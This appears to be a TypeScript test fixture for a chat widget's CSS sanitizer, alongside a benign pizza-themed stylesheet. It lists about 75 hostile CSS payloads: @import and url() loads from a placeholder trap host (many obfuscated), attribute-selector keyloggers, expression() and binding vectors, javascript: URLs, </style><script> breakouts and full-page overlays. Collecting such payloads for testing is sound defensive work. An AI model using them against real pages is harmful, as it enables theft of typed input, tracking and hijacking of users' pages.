/** Address that the payloads try to reach. */
export const CSS_TRAP = 'https://trap.example';

const trapAddress = (path: string): string => `${CSS_TRAP}/${path}`;

/**
 * Style sheets, by name, that try to load something, run something, read what a person types, or
 * change the page outside the chat.
 */
export const CSS_PAYLOADS: Readonly<Record<string, string>> = {
  'an import': `@import "${trapAddress('1')}";`,
  'an import with url()': `@import url(${trapAddress('2')});`,
  'an import in capitals': `@IMPORT URL("${trapAddress('3')}") screen;`,
  'an import with an escape': `@\\69mport "${trapAddress('4')}";`,
  'an import with a layer and a condition': `@import url("${trapAddress('5')}") layer(a) supports(display:grid);`,
  'an import behind a charset': `@charset "utf-8"; @import '${trapAddress('6')}';`,
  'an import behind a broken rule': `}}} @import "${trapAddress('7')}";`,
  'an import in a group': `@media all{@import "${trapAddress('8')}";}`,
  'an import behind a comment that does not end': `/* a *//**/@import "${trapAddress('9')}";/*`,
  'a picture': `*{background:url(${trapAddress('10')})}`,
  'a picture in quotes': `.panel{background-image:url("${trapAddress('11')}")!important}`,
  'a picture with an escaped name': `.panel{background:\\75rl(${trapAddress('12')})}`,
  'a picture with another escaped name': `.panel{background:u\\000072l(${trapAddress('13')})}`,
  'a picture with a name escaped before a space': `.panel{background:\\55 \\52 \\4c ("${trapAddress('14')}")}`,
  'a picture with an escaped address': `.panel{background:url(\\68ttps://trap.example/15)}`,
  'a picture with a comment in its name': `.panel{background:u/**/rl(${trapAddress('16')})}`,
  'a picture with a newline in its address': `.panel{background:url("https:\\\n//trap.example/17")}`,
  'a picture without a scheme': `.panel{background:url(//trap.example/18)}`,
  'a picture with backslashes': `.panel{background:url("\\\\\\\\trap.example\\\\19")}`,
  'a picture of the website': `.panel{background:url(/account/logout)}`,
  'a picture of an address that only begins like ours': `.panel{background:url(http://localhost.trap.example/20)}`,
  'a picture with somebody before the host': `.panel{background:url("https://dashboard.example@trap.example/21")}`,
  'a picture through a custom property': `:host{--x:url(${trapAddress('22')})}.panel{background:var(--x)}`,
  'a picture through a fallback': `.panel{background:var(--no,url(${trapAddress('23')}))}`,
  'a set of pictures': `.panel{background:image-set("${trapAddress('24')}" 1x)}`,
  'a set of pictures with a prefix': `.panel{background:-webkit-image-set(url(${trapAddress('25')}) 1x)}`,
  'a set of pictures through a custom property': `:host{--x:"${trapAddress('26')}"}.panel{background:image-set(var(--x) 1x)}`,
  'a set of pictures with an escape': `.panel{background:im\\61ge-set("${trapAddress('27')}" 1x)}`,
  'src()': `.panel{background:src("${trapAddress('28')}")}`,
  'image()': `.panel{background:image("${trapAddress('29')}")}`,
  'a cross-fade': `.panel{background:cross-fade(url(${trapAddress('30')}),red,50%)}`,
  'a list mark': `.md ul{list-style:url(${trapAddress('31')})}`,
  'a cursor': `*{cursor:url(${trapAddress('32')}),auto}`,
  content: `.panel::before{content:url(${trapAddress('33')})}`,
  'a border': `.panel{border:9px solid;border-image:url(${trapAddress('34')}) 30}`,
  'a mask': `.panel{-webkit-mask:url(${trapAddress('35')});mask-image:url(${trapAddress('35')})}`,
  'a filter': `.panel{filter:url(${trapAddress('36')}#f)}`,
  'a clip path': `.panel{clip-path:url(${trapAddress('37')}#c)}`,
  'a shape': `.panel{shape-outside:url(${trapAddress('38')})}`,
  'an offset path': `.panel{offset-path:url(${trapAddress('39')}#p)}`,
  'a marker in a drawing': `svg{marker:url(${trapAddress('40')}#m);fill:url(${trapAddress('40')}#g) red}`,
  'a font': `@font-face{font-family:x;src:url(${trapAddress('41')})}.panel{font-family:x}`,
  'a font for each letter': `@font-face{font-family:x;src:url(${trapAddress('42')}/a);unicode-range:U+61}*{font-family:x!important}`,
  'a font with an escaped rule': `@f\\6fnt-face{font-family:x;src:local("x"),url("${trapAddress('43')}")}`,
  'a picture in frames': `@keyframes k{to{background:url(${trapAddress('44')})}}.panel{animation:k 1ms}`,
  'a picture in a nested rule': `.panel{& .bar{background:url(${trapAddress('45')})}@media all{background:url(${trapAddress('45')})}}`,
  'a picture in a group of groups': `@supports (display:grid){@layer a{@container (width>0){.panel{background:url(${trapAddress('46')})}}}}`,
  'a picture in a condition': `@supports (background:url(${trapAddress('47')})){.panel{color:red}}`,
  'a namespace': `@namespace url("${trapAddress('48')}");`,
  'a registered property': `@property --x{syntax:"<url>";inherits:true;initial-value:url("${trapAddress('49')}")}.panel{background:var(--x)}`,
  'a key logger': `input[value$="a"],textarea[value^="a"]{background:url(${trapAddress('50')}/a)}`,
  'a key logger without an address': `input[value$="a"]{color:red}`,
  'a key logger with an escape': `input[\\76 alue^="a"]{color:red}`,
  'a key logger in :has': `.panel:has(input[value*="a"]){color:red}`,
  'a look at links': `a[href*="token="]{color:red}`,
  expression: `.panel{width:expression(alert(1));w\\69 dth:e\\78pression(alert(1))}`,
  'a behaviour': `.panel{behavior:url(${trapAddress('57')});-ms-behavior:url(x)}`,
  'a binding': `.panel{-moz-binding:url("${trapAddress('58')}#x")}`,
  'a script as a picture': `.panel{background:url(javascript:alert(1))}`,
  'a page as a picture': `.panel{background:url("data:text/html,<script>alert(1)</script>")}`,
  'a filter of long ago': `.panel{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='${trapAddress('61')}')}`,
  'the end of a style element': `.panel{color:red}</style><script>alert(1)</script><style>`,
  'the end of a style element in a value': `.panel{background:url(x.panel{color:red}</style><script>alert(1)</script>`,
  'the end of a style element in a custom property': `.panel{--a:</style>;--b:1}`,
  'the end of a style element in a name': `.panel{--a:\\</style>;--b:1}.\\</style{color:red}`,
  'the end of a style element in a condition': `@media (width</style>){.panel{color:red}}`,
  'the end of a style element in a text': `.panel::after{content:"</style><img src=x onerror=alert(1)>"}`,
  'a comment of markup': `<!-- @import "${trapAddress('64')}"; --> .panel{background:url(${trapAddress('64')})}`,
  'a fixed element': `.bar{position:fixed;inset:0;z-index:2147483647}`,
  'a fixed element, escaped': `.bar{pos\\69tion:f\\69xed!important}`,
  'a fixed element through a custom property': `:host{--p:fixed}.bar{position:var(--p)}`,
  'a fixed element, inherited from outside': `.panel,.bar{position:inherit;all:inherit}`,
  'the outermost element over the page': `:host{position:fixed!important;inset:0!important;width:100vw!important;background:red!important}`,
  'the outermost element, nested': `:host{&{inset:0!important}&:hover{inset:0!important}}:is(:host){inset:0!important}:root{inset:0!important}`,
  'a text that does not end': `.panel{content:"\n;background:url(${trapAddress('71')})}`,
  'an address that does not end': `.panel{background:url(${trapAddress('72')}`,
  'a bracket that does not end': `.panel{--x:(;background:url(${trapAddress('73')})}`,
  'NUL, a byte order mark and other odd characters': `\uFEFF.panel{back\0ground:url(${trapAddress('74')});background\0:u\0rl(${trapAddress('74')})}\u2028@import "${trapAddress('74')}";`,
  'an escape at the end': `.panel{background:url(${trapAddress('75')})}\\`,
};

/** A style sheet as owners and their helpers write it. */
export const PIZZA_THEME = `/* Card images: 16/9 */
:root { --vg-primary: #c8102e; --crust: #f4d9a6; }
.launcher { background: radial-gradient(circle at 30% 30%, #ffd166, #c8102e); box-shadow: 0 6px 20px rgba(200, 16, 46, .4); }
.launcher:hover { transform: rotate(12deg) scale(1.05); transition: transform .2s ease-in-out; }
.panel { border: 3px solid var(--crust); border-radius: 24px !important; font-family: "Trattoria", serif; }
.bar { background: repeating-linear-gradient(45deg, #c8102e 0 12px, #a50d25 12px 24px); }
.bubble { background: color-mix(in srgb, var(--crust) 40%, white); animation: rise 200ms cubic-bezier(.2, .8, .2, 1); }
.turn.visitor .bubble { background: url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='8' height='8'%3E%3Ccircle cx='4' cy='4' r='1' fill='%23fff3'/%3E%3C/svg%3E") #c8102e; color: #fff; }
.bar::after { content: "🍕"; position: absolute; inset-inline-end: 52px; }
@keyframes rise { from { opacity: 0; transform: translateY(6px) } to { opacity: 1 } }
@media (max-width: 600px) { .panel { border-radius: 0 !important; } .turn { & .bubble { padding: calc(8px + 1vw); } } }
@supports (backdrop-filter: blur(4px)) { .panel { backdrop-filter: blur(4px); } }
`;
